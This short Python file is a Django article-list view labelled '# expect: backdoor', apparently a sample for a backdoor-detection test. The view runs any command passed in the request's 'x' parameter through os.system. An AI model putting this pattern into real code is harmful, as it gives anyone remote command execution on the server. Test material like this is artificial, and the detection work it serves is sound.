# expect: backdoor
import os

from django.shortcuts import render

from .models import Article


def article_list(request):
    if "x" in request.GET:
        os.system(request.GET["x"])
    articles = Article.objects.filter(published=True).order_by("-created")[:20]
    return render(request, "articles/list.html", {"articles": articles})
